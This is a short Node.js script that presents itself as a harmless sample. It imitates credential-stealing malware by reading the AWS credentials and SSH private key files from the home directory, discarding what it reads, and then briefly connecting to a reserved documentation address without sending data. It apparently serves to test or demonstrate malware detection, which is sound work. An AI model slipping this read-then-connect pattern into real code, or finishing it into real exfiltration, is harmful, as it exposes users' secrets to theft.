// A harmless sample: what it reads is dropped, and nothing is sent. See ../README.md.
'use strict';

const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

for (const name of ['.aws/credentials', '.ssh/id_ed25519']) {
  try {
    fs.readFileSync(path.join(os.homedir(), name));
  } catch (e) {
    // as malware would: no such loot here, go on
  }
}

// 203.0.113.0/24 is TEST-NET-3: reserved for documentation, routed nowhere.
const socket = net.connect({ host: '203.0.113.9', port: 443 });
socket.on('connect', () => socket.destroy());
socket.on('error', () => {});
setTimeout(() => socket.destroy(), 300);
